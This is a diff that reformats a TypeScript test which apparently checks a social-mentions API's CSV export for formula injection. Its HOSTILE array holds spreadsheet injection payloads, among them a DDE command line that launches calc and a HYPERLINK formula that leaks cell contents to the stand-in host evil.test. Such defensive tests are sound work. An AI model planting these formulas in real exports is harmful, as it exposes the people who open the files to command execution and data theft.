@@ -11,7 +11,14 @@ import { socialAuthor, socialPost } from '../helpers/posts';
 let t: TestContext;
 let token: string;
 
-const HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test/?leak="&A1,"click")', '+SUM(1+1)', '@SUM(A1)', '-2+3', '\t=1+1'];
+const HOSTILE = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
+  '+SUM(1+1)',
+  '@SUM(A1)',
+  '-2+3',
+  '\t=1+1',
+];
 const csvOf = async (path: string) => {
   const res = await t.request('GET', path, { token });
   expect(res.status).toBe(200);
@@ -26,10 +33,20 @@ beforeAll(async () => {
   await ingestPosts(
     t.deps,
     { workspaceId: ws.workspace.id, sourceId: null, platform: 'x', topics: [] },
-    HOSTILE.map((text, i) => socialPost({ externalId: `f${i}`, text, createdAt: now, author: socialAuthor({ externalId: `a${i}`, handle: `h${i}`, name: text }) })),
+    HOSTILE.map((text, i) =>
+      socialPost({
+        externalId: `f${i}`,
+        text,
+        createdAt: now,
+        author: socialAuthor({ externalId: `a${i}`, handle: `h${i}`, name: text }),
+      }),
+    ),
   );
   const mentions = (await t.request('GET', '/api/v1/mentions?limit=50', { token })).json.items as { id: string }[];
-  for (const m of mentions) expect((await t.request('PATCH', `/api/v1/mentions/${m.id}/sentiment`, { token, body: { label: 'negative' } })).status).toBe(200);
+  for (const m of mentions)
+    expect(
+      (await t.request('PATCH', `/api/v1/mentions/${m.id}/sentiment`, { token, body: { label: 'negative' } })).status,
+    ).toBe(200);
 });
 afterAll(() => t.close());
 
